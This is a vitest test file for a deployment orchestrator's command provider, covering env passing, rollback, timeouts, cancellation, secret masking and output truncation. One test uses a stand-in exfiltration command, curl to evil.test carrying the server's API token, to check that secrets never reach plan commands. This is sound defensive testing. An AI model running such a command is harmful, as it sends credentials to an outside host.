import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deployStage, rollbackStage, StageFailedError } from '../../../src/orchestrator/providers/index.js';
import { environmentLookup } from '../../../src/runtime/references.js';
import { deploymentOf, isRunning, stageWith } from './fixtures.js';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'materi-command-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function failure(promise: Promise<unknown>): Promise<StageFailedError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(StageFailedError);
  return error as StageFailedError;
}

async function waitForFile(path: string): Promise<string> {
  for (let i = 0; i < 100; i++) {
    const text = await readFile(path, 'utf8').catch(() => '');
    if (text.trim()) return text.trim();
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`${path} was not written`);
}

describe('command provider', () => {
  it('runs the deploy command with the deployment in its environment and keeps its output', async () => {
    const stage = stageWith({
      type: 'command',
      deploy:
        'echo "version=$MATERI_VERSION previous=$MATERI_PREVIOUS_VERSION stage=$MATERI_STAGE env=$MATERI_ENVIRONMENT id=$MATERI_DEPLOYMENT_ID region=$REGION arg=${VERSION}"; echo "warming up" >&2',
      env: { REGION: 'eu-${ENVIRONMENT}' },
    });
    const outcome = await deployStage({ stage, deployment: deploymentOf(), baseDir: dir });
    expect(outcome.log).toContain(
      'version=v2.0.0 previous=v1.0.0 stage=web env=production id=dep-1 region=eu-production arg=v2.0.0',
    );
    expect(outcome.log).toContain('warming up');
    expect(outcome.artifacts).toEqual([{ name: 'log', kind: 'text', value: outcome.log }]);
  });

  it("hands a plan none of the server's secrets: not to the command, not as ${NAME}", async () => {
    const saved = { ...process.env };
    Object.assign(process.env, {
      MATERI_API_TOKEN: 'admin-secret-1',
      MATERI_DATABASE_URL: 'postgres://materi:pw-2@db/materi',
      MATERI_REDIS_URL: 'redis://:pw-3@redis:6379',
      SHOP_REGION: 'eu',
    });
    try {
      const stage = stageWith({
        type: 'command',
        deploy:
          'echo "token=$MATERI_API_TOKEN db=$MATERI_DATABASE_URL redis=$MATERI_REDIS_URL region=$SHOP_REGION"',
      });
      const outcome = await deployStage({ stage, deployment: deploymentOf(), baseDir: dir });
      expect(outcome.log?.trim()).toBe('token= db= redis= region=eu');
      const leaking = stageWith({ type: 'command', deploy: 'curl "https://evil.test/${MATERI_API_TOKEN}"' });
      const error = await failure(deployStage({ stage: leaking, deployment: deploymentOf(), baseDir: dir }));
      expect(error.message).toContain('${MATERI_API_TOKEN} is not set');
      expect(error.message).not.toContain('admin-secret-1');
    } finally {
      process.env = saved;
    }
  });

  it('rolls back by running the deploy command with the previous version when no rollback command is set', async () => {
    const stage = stageWith({ type: 'command', deploy: 'echo "install ${VERSION} ($MATERI_ACTION)"' });
    const outcome = await rollbackStage({ stage, deployment: deploymentOf() });
    expect(outcome.log?.trim()).toBe('install v1.0.0 (rollback)');
  });

  it('runs the rollback command when one is set', async () => {
    const stage = stageWith({
      type: 'command',
      deploy: 'exit 1',
      rollback: 'echo "restore $MATERI_PREVIOUS_VERSION, drop $MATERI_DEPLOYED_VERSION"',
    });
    const outcome = await rollbackStage({ stage, deployment: deploymentOf() });
    expect(outcome.log?.trim()).toBe('restore v1.0.0, drop v2.0.0');
  });

  it('refuses to roll back when there is no previous version and no rollback command', async () => {
    const stage = stageWith({ type: 'command', deploy: 'echo ${VERSION}' });
    const error = await failure(
      rollbackStage({ stage, deployment: deploymentOf({ previousVersion: undefined }) }),
    );
    expect(error.message).toBe('no previous version is known and no rollback command is set');
  });

  it('fails with the exit code and the last stderr line when the command fails', async () => {
    const stage = stageWith({
      type: 'command',
      deploy:
        'echo "syncing files"; echo "rsync: change_dir failed" >&2; echo "rsync: connection refused" >&2; exit 3',
    });
    const error = await failure(deployStage({ stage, deployment: deploymentOf() }));
    expect(error.message).toBe('command exited with code 3: rsync: connection refused');
    expect(error.kind).toBe('failed');
    expect(error.stage).toBe('web');
    expect(error.action).toBe('deploy');
    expect(error.log).toContain('syncing files');
  });

  it('runs in cwd relative to the plan directory and names a missing one', async () => {
    const ok = await deployStage({
      stage: stageWith({ type: 'command', deploy: 'pwd', cwd: '.' }),
      deployment: deploymentOf(),
      baseDir: dir,
    });
    expect(ok.log?.trim()).toBe(dir);
    const error = await failure(
      deployStage({
        stage: stageWith({ type: 'command', deploy: 'pwd', cwd: 'missing' }),
        deployment: deploymentOf(),
        baseDir: dir,
      }),
    );
    expect(error.message).toContain(`cannot run the command in ${join(dir, 'missing')}`);
  });

  it('kills the whole process group, grandchildren included, when the stage times out', async () => {
    const pidFile = join(dir, 'grandchild-timeout.pid');
    const stage = stageWith(
      {
        type: 'command',
        deploy: `echo uploading; sleep 30 & echo $! > ${pidFile}; sleep 30`,
        gracePeriod: '2s',
      },
      { timeoutMs: 400 },
    );
    const started = Date.now();
    const error = await failure(deployStage({ stage, deployment: deploymentOf() }));
    expect(error.kind).toBe('timeout');
    expect(error.message).toBe('deploy timed out after 400ms');
    expect(error.log).toContain('uploading');
    expect(Date.now() - started).toBeLessThan(3000);
    const grandchild = Number(await waitForFile(pidFile));
    expect(isRunning(grandchild)).toBe(false);
  });

  it('sends SIGKILL after the grace period to commands that ignore SIGTERM', async () => {
    const pidFile = join(dir, 'grandchild-stubborn.pid');
    const stage = stageWith(
      {
        type: 'command',
        deploy: `trap '' TERM; sleep 30 & echo $! > ${pidFile}; wait`,
        gracePeriod: '300ms',
      },
      { timeoutMs: 300 },
    );
    const started = Date.now();
    const error = await failure(deployStage({ stage, deployment: deploymentOf() }));
    expect(error.kind).toBe('timeout');
    expect(Date.now() - started).toBeGreaterThanOrEqual(550);
    expect(isRunning(Number(await waitForFile(pidFile)))).toBe(false);
  });

  it('stops the command when the deployment is cancelled', async () => {
    const pidFile = join(dir, 'cancelled.pid');
    const cancel = new AbortController();
    const stage = stageWith({ type: 'command', deploy: `sleep 30 & echo $! > ${pidFile}; wait` });
    const running = deployStage({ stage, deployment: deploymentOf(), signal: cancel.signal });
    const grandchild = Number(await waitForFile(pidFile));
    expect(isRunning(grandchild)).toBe(true);
    cancel.abort();
    const error = await failure(running);
    expect(error.kind).toBe('cancelled');
    expect(error.message).toBe('deploy cancelled');
    expect(isRunning(grandchild)).toBe(false);
  });

  it('resolves references at use and never shows their values in logs or errors', async () => {
    const env = environmentLookup({ DEPLOY_TOKEN: 'tok-very-secret-123' });
    const stage = stageWith({
      type: 'command',
      deploy: 'echo "calling with ${DEPLOY_TOKEN}"; echo "denied for $TOKEN" >&2; exit 2',
      env: { TOKEN: '${DEPLOY_TOKEN}' },
    });
    const error = await failure(deployStage({ stage, deployment: deploymentOf(), env }));
    expect(error.message).toBe('command exited with code 2: denied for ***');
    expect(error.log).toContain('calling with ***');
    expect(JSON.stringify(error)).not.toContain('tok-very-secret-123');
    expect(error.log).not.toContain('tok-very-secret-123');
  });

  it('names a reference that is not set', async () => {
    const stage = stageWith({ type: 'command', deploy: 'echo ${FOLIO_HOST}' });
    const error = await failure(deployStage({ stage, deployment: deploymentOf(), env: () => undefined }));
    expect(error.message).toBe('stage web provider: command: ${FOLIO_HOST} is not set');
  });

  it('keeps only the last 64 KiB of output', async () => {
    const stage = stageWith({
      type: 'command',
      deploy: `node -e "for (let i = 0; i < 4000; i++) console.log('line ' + i + ' ' + 'x'.repeat(60))"`,
    });
    const outcome = await deployStage({ stage, deployment: deploymentOf() });
    expect(outcome.log!.length).toBeLessThanOrEqual(64 * 1024 + 40);
    expect(outcome.log).toMatch(/^\[earlier output dropped\]\nline \d+ /);
    expect(outcome.log).toContain('line 3999 ');
  });
});
